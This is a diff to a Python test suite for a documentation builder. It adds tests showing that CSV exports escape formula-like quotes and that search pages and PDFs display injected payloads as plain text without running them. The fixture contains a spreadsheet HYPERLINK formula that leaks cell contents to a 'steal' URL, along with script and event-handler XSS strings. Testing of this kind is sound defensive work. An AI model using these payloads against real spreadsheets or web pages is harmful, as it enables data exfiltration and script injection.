@@ -39,6 +39,12 @@ STATEMENT = f"""# Statement {PAYLOAD}
 Quoted {PAYLOAD} with a bell \x07 and an escape \x1b.
 :::
 
+:::{{quote}} formula-quote
+:speaker: evil-person
+
+=HYPERLINK("https://example.org/steal?x="&A1,"click")
+:::
+
 ```{{raw}} html
 <script>alert(6)</script>
 ```
@@ -107,7 +113,7 @@ def test_refused_urls_and_control_characters_are_located_warnings(built):
         "statement.md:13:",
         "statement.md:15:",
         "statement.md:15:",
-        "statement.md:18:",
+        "statement.md:24:",
         "statement.md:7:",
     ]
     assert sum("[briefing.invalid-url]" in line for line in lines) == 3
@@ -162,3 +168,55 @@ def test_exports_round_trip_the_payload(built):
     with (result.outdir / "data" / "people.csv").open(encoding="utf-8-sig", newline="") as f:
         rows = list(csv.DictReader(f))
     assert rows[0]["title"] == people[0]["title"]
+
+
+def test_a_quote_that_looks_like_a_formula_stays_text_in_spreadsheets(built):
+    _, result = built
+    data = json.loads((result.outdir / "data" / "knowledge-base.json").read_text())
+    (quote,) = [e for e in data["entities"] if e["id"] == "formula-quote"]
+    assert quote["text"].startswith("=HYPERLINK(")
+    with (result.outdir / "data" / "quotes.csv").open(encoding="utf-8-sig", newline="") as f:
+        rows = {row["id"]: row for row in csv.DictReader(f)}
+    assert rows["formula-quote"]["text"] == "'" + quote["text"]
+
+
+@pytest.mark.browser
+def test_search_results_show_the_payload_as_text_and_run_nothing(built, chromium):
+    from conftest import serve
+
+    _, result = built
+    with serve(result.outdir) as url:
+        context = chromium.new_context()
+        page = context.new_page()
+        dialogs: list[str] = []
+        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        page.goto(f"{url}/search.html?q=Quoted")
+        page.wait_for_selector("html[data-search-state=ready]")
+        page.wait_for_selector("li.kb-search-result")
+        results = BeautifulSoup(page.inner_html("#kb-search-results"), "html.parser")
+        context.close()
+    assert dialogs == []
+    assert results.find("b") is None and results.find("script") is None
+    assert not any(
+        attr.startswith("on") for element in results.find_all(True) for attr in element.attrs
+    )
+    assert "alert(2)" in results.get_text()  # the payload, as text
+
+
+def test_pdf_shows_the_payload_as_text_and_runs_nothing(built):
+    import pikepdf
+    import pypdf
+
+    project, _ = built
+    book = {"name": "evil", "root": "index", "title": "Injection book"}
+    result = project.build("pdf", outdir="pdf", confoverrides={"briefing_books": [book]})
+    path = result.outdir / "evil.pdf"
+    text = " ".join(page.extract_text() for page in pypdf.PdfReader(path).pages)
+    assert "alert(2)" in text and "onmouseover" in text
+    with pikepdf.open(path) as pdf:
+        for obj in pdf.objects:
+            if isinstance(obj, pikepdf.Dictionary):
+                assert "/JS" not in obj and "/JavaScript" not in obj
+                action = obj.get("/A")
+                if isinstance(action, pikepdf.Dictionary) and "/URI" in action:
+                    assert str(action["/URI"]).startswith(("http://", "https://"))
